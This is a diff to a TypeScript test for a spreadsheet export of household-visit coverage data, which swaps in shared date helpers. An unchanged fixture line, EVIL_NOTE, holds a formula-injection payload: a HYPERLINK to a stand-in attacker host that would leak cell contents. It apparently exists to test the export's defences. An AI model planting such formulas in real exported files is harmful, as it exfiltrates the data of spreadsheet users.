@@ -6,17 +6,17 @@ import { randomUUID } from 'node:crypto'
 import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { DEMO_HOUSEHOLDS } from '../../../mock/demo-data'
+import { quarterOf } from '../../../src/domain/quarter'
+import { shanghaiToday } from '../../../src/domain/time'
 import { insertVisitOnce } from '../../db/repos/visits'
 import { createTestApp, TEST_DIALECTS } from '../../testing'
 import { residentOf, staffClient } from '../applications/test-builders'
 import { allText, readXlsx, records, savedFileName } from '../staff/xlsx-test-support'
-import { chinaDate } from './time'
 
 /** A fresh seeded database and a few sign-ins: slow on a busy machine (password hashing). */
 const SETUP_TIMEOUT_MS = 60_000
 const EVIL_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")'
 
-const quarterOf = (date: string) => `${date.slice(0, 4)}-Q${Math.ceil(Number(date.slice(5, 7)) / 3)}`
 /** A date cell as its Beijing day (exceljs reads Excel days as UTC midnight). */
 const day = (value: unknown) => (value instanceof Date ? value.toISOString().slice(0, 10) : value)
 
@@ -24,7 +24,7 @@ describe.each(TEST_DIALECTS)('coverage export on %s', (kind: DbKind) => {
   let t: TestApp
   let town: TestClient
   let county: TestClient
-  const quarter = quarterOf(chinaDate(new Date()))
+  const quarter = quarterOf(shanghaiToday(new Date()))
 
   beforeAll(async () => {
     t = await createTestApp(kind)
@@ -57,17 +57,17 @@ describe.each(TEST_DIALECTS)('coverage export on %s', (kind: DbKind) => {
     expect(records(urgent).map(r => [r['村（社区）'], r['户主'], day(r['探访日期']), r['探访人'], r['状态']])).toEqual(flags.map((f: { villageName: string, maskedHeadName: string, visitedAt: string, visitorName: string, resolvedAt: string | null }) => [
       f.villageName,
       f.maskedHeadName,
-      chinaDate(new Date(f.visitedAt)),
+      shanghaiToday(new Date(f.visitedAt)),
       f.visitorName,
       f.resolvedAt === null ? '待处理' : '已处理',
     ]))
     expect(records(notVisited).map(r => [r['户主'], r['村（社区）'], day(r['上次探访'])])).toEqual(page.notVisited90Days.map((h: { maskedHeadName: string, villageName: string, lastVisitedAt: string | null }) => [
       h.maskedHeadName,
       h.villageName,
-      h.lastVisitedAt ? chinaDate(new Date(h.lastVisitedAt)) : '从未探访',
+      h.lastVisitedAt ? shanghaiToday(new Date(h.lastVisitedAt)) : '从未探访',
     ]))
     expect(left.rows).toEqual([])
-    expect(savedFileName(res)).toBe(`探访覆盖-安乐镇-${quarter}-${chinaDate(new Date())}.xlsx`)
+    expect(savedFileName(res)).toBe(`探访覆盖-安乐镇-${quarter}-${shanghaiToday(new Date())}.xlsx`)
     expect(res.headers['cache-control']).toBe('no-store')
   })
 
